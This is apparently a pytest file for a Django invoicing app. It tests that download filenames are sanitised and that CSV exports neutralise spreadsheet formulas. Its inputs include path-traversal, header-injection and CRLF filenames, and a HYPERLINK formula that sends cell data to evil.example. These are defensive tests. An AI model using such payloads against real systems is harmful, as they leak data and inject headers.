"""Downloads name their file safely: no path, quote or line break gets into the header."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from pypdf import PdfReader

from membership.models import Invoice, Member
from membership.services import invoice_create, invoice_issue
from tests.factories import SchoolFactory
from tests.membership.factories import FeeRateFactory, MembershipFactory, PupilCountFactory
from thep.downloads import csv_download, download


@pytest.mark.parametrize(
    ("asked", "header"),
    [
        ("THEP-00001.pdf", 'attachment; filename="THEP-00001.pdf"'),
        ("../../etc/passwd", 'attachment; filename="passwd"'),
        ("C:\\Users\\head\\report.pdf", 'attachment; filename="report.pdf"'),
        ('a"; filename="evil.exe', 'attachment; filename="a_filenameevil.exe"'),
        ("report\r\nSet-Cookie: x=1.pdf", 'attachment; filename="reportSet-Cookie_x1.pdf"'),
        (".htaccess", 'attachment; filename="htaccess"'),
        ("..", 'attachment; filename="download"'),
        ("Évaluation été.pdf", "attachment; filename*=utf-8''%C3%89valuation_%C3%A9t%C3%A9.pdf"),
    ],
)
def test_a_download_names_its_file_safely(asked, header):
    response = download(b"%PDF-", filename=asked, content_type="application/pdf")
    assert response["Content-Disposition"] == header


def test_the_invoice_downloads_as_an_attachment_named_by_its_reference(
    client_for, head_a, school_a
):
    FeeRateFactory(year=2023)
    MembershipFactory(member__school=school_a, year=2023)
    PupilCountFactory(school=school_a, year=2023)
    invoice = invoice_issue(
        invoice=invoice_create(member=Member.objects.get(school=school_a), year=2023),
        make_pdf=False,
    )
    response = client_for(head_a).get(
        reverse("membership:invoice_pdf", args=[school_a.urn, invoice.number])
    )
    assert response["Content-Disposition"] == f'attachment; filename="{invoice.reference}.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "no-store, private"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Bonner Primary School", "Bonner Primary School"),
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        (Decimal("-250.00"), "-250.00"),
        (420, "420"),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(value, written):
    response = csv_download(filename="x.csv", header=["value"], rows=[[value]])
    assert list(csv.reader(io.StringIO(response.content.decode()))) == [["value"], [written]]


def test_the_finance_export_keeps_a_formula_in_a_school_name_as_text(client_for, office_admin):
    school = SchoolFactory(name='=HYPERLINK("http://evil.example/?"&A1,"Bonner")', urn=100003)
    FeeRateFactory(year=2017)
    MembershipFactory(member__school=school, year=2017)
    PupilCountFactory(school=school, year=2017, pupils=100)
    invoice_issue(
        invoice=invoice_create(member=Member.objects.get(school=school), year=2017),
        make_pdf=False,
    )
    response = client_for(office_admin).get("/admin/membership/invoice/export-finance-csv/")
    assert response["Content-Disposition"] == 'attachment; filename="thep-invoices.csv"'
    header, row = csv.reader(io.StringIO(response.content.decode()))
    assert row[header.index("member")] == "'" + school.name
    assert row[header.index("amount")] == "500.00"


def test_an_invoice_whose_file_was_lost_is_made_again(
    client_for, head_a, school_a, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    FeeRateFactory(year=2023)
    MembershipFactory(member__school=school_a, year=2023)
    PupilCountFactory(school=school_a, year=2023)
    invoice = invoice_issue(
        invoice=invoice_create(member=Member.objects.get(school=school_a), year=2023),
        make_pdf=False,
    )
    Invoice.objects.filter(pk=invoice.pk).update(pdf="invoices/not-restored.pdf")
    response = client_for(head_a).get(
        reverse("membership:invoice_pdf", args=[school_a.urn, invoice.number])
    )
    assert response.status_code == 200
    text = PdfReader(io.BytesIO(response.content)).pages[0].extract_text()
    assert invoice.reference in text
